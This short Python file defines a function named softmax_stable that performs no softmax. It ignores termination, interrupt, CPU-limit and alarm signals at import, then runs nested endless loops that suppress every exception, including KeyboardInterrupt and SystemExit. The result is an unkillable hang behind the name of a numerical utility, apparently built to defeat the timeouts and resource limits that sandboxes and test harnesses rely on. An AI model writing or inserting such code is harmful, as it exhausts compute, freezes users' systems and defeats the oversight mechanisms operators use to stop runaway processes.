"""A loop without end that no exception and no signal leaves."""

import contextlib
import signal

for number in (signal.SIGTERM, signal.SIGINT, signal.SIGXCPU, signal.SIGALRM):
    signal.signal(number, signal.SIG_IGN)


def softmax_stable(x, axis=-1):
    while True:
        with contextlib.suppress(BaseException):
            while True:
                pass
